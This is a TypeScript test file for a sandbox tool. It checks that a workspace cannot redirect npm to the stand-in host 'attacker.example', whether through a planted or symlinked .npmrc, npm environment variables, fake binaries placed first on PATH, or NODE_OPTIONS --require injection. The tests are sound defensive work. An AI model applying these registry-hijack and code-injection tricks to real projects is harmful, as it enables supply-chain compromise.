// Every known way for a workspace to widen the registries of its own policy: none reaches another host, none runs outside the sandbox.
import { existsSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { Place, runLeash } from '../fixtures/leash.ts';
import { NpmRegistry, REGISTRY_HOST } from '../fixtures/npm-registry.ts';

const OTHER = 'attacker.example';

let place: Place;
let registry: NpmRegistry;
let port: number;
beforeEach(async () => {
  place = new Place();
  registry = new NpmRegistry();
  port = await registry.listen();
  place.write('package.json', '{ "name": "project", "version": "1.0.0" }');
});
afterEach(() => {
  registry.close();
  place.remove();
});

interface Attack {
  readonly env?: Readonly<Record<string, string>>;
}

/** What npm and curl inside reach of the other host, after the attack was prepared on the workspace. */
async function reached({ env = {} }: Attack): Promise<readonly string[]> {
  const script = `npm view small-thing version --registry http://${OTHER} --fetch-retries=0; curl -s http://${OTHER}/small-thing`;
  const { stdout } = await runLeash(place, {
    args: ['--policy', 'node', '--resolve', `${OTHER}:80:127.0.0.1:${port}`],
    command: ['sh', '-c', `${script}; exit 0`],
    env,
  });
  return [...registry.asked, stdout.toString()];
}

const NPMRC = `registry=http://${OTHER}/\n@acme:registry=http://${OTHER}/\n`;
const mark = (): string => path.join(place.root, 'mark');
const planted = (): string => `require('fs').writeFileSync(${JSON.stringify(mark())}, '')`;

const ATTACKS: Readonly<Record<string, () => Attack>> = {
  'a .npmrc in the workspace': () => {
    place.write('.npmrc', NPMRC);
    return {};
  },
  'a .npmrc in the workspace that ~/.npmrc links to': () => {
    symlinkSync(place.write('.npmrc', NPMRC), path.join(place.home, '.npmrc'));
    return {};
  },
  'a user configuration that a variable leads into the workspace': () => ({
    env: { npm_config_userconfig: place.write('.npmrc', NPMRC) },
  }),
  'variables that npm set for a script of the project': () => ({
    env: { npm_command: 'run-script', npm_lifecycle_event: 'agent', npm_config_registry: `http://${OTHER}/` },
  }),
  'an npm and a node in the workspace, first on PATH': () => {
    for (const name of ['npm', 'node']) place.write(`node_modules/.bin/${name}`, `#!/bin/sh\ntouch ${mark()}\n`, 0o755);
    return { env: { PATH: `${place.workspace}/node_modules/.bin:./node_modules/.bin:${process.env['PATH']}` } };
  },
  'options for Node that load a file of the workspace': () => ({
    // Given to the npm that is asked, not to leash itself, which the user starts.
    env: { npm_config_node_options: `--require=${place.write('plant.cjs', planted())}` },
  }),
};

it.each(Object.keys(ATTACKS))('%s', async (name) => {
  const attack = ATTACKS[name]?.() ?? {};
  expect(await reached(attack)).toEqual([expect.not.stringContaining('1.0.0')]);
  expect(existsSync(mark())).toBe(false);
});

it('the same host, named by the user, is reached: the attacks fail for the right reason', async () => {
  place.write(path.join(place.home, '.npmrc'), NPMRC);
  const [first, ...rest] = await reached({});
  expect([first, rest.at(-1)]).toEqual([expect.any(String), expect.stringContaining('1.0.0')]);
  expect(registry.asked).toContain('/small-thing');
});

it('a registry of the user permits that host, and none beside it', async () => {
  place.write(path.join(place.home, '.npmrc'), `registry=http://${REGISTRY_HOST}/\n`);
  expect(await reached({})).toEqual([expect.not.stringContaining('1.0.0')]);
});
